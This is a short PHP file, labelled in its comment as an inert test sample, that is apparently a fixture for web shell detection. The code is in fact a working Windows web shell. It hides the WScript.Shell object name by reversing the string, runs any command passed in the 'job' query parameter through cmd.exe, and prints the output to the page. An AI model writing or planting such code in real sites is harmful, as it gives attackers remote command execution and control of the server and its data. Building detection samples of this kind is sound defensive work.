<?php
// inert test sample: a Windows shell object whose ProgID is stored reversed, a command from the query string
$progid = strrev('llehS.tpircSW');
$shell = new COM($progid);
$job = isset($_REQUEST['job']) ? $_REQUEST['job'] : 'ver';
$rc = $shell->Run('cmd.exe /c ' . $job . ' > C:\\Windows\\Temp\\out.txt', 0, true);
echo '<pre>' . htmlspecialchars(@file_get_contents('C:\\Windows\\Temp\\out.txt')) . '</pre>';
